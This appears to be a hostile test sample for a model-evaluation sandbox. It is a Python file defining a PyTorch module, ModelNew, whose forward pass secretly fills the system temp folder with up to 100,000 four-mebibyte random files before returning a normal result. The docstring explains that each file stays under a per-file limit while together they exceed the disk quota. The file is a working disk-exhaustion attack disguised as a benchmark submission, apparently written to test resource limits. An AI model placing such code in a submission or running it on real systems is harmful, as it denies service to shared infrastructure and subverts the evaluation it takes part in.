"""Attack: fills its own temp folder, 4 MiB a file, until something stops it (every file
stays under any one file's limit; together they pass the disk limit)."""

import os
import tempfile
import time

import torch.nn as nn
import torch.nn.functional as F


class ModelNew(nn.Module):
    def __init__(self, dim, hidden):
        super().__init__()
        self.fc1 = nn.Linear(dim, hidden)
        self.fc2 = nn.Linear(hidden, dim)

    def forward(self, x):
        chunk = os.urandom(4 << 20)
        for n in range(100_000):
            with open(os.path.join(tempfile.gettempdir(), f"fill-{n}"), "wb") as f:
                f.write(chunk)
            time.sleep(0.005)
        return self.fc2(F.gelu(self.fc1(x), approximate="tanh"))
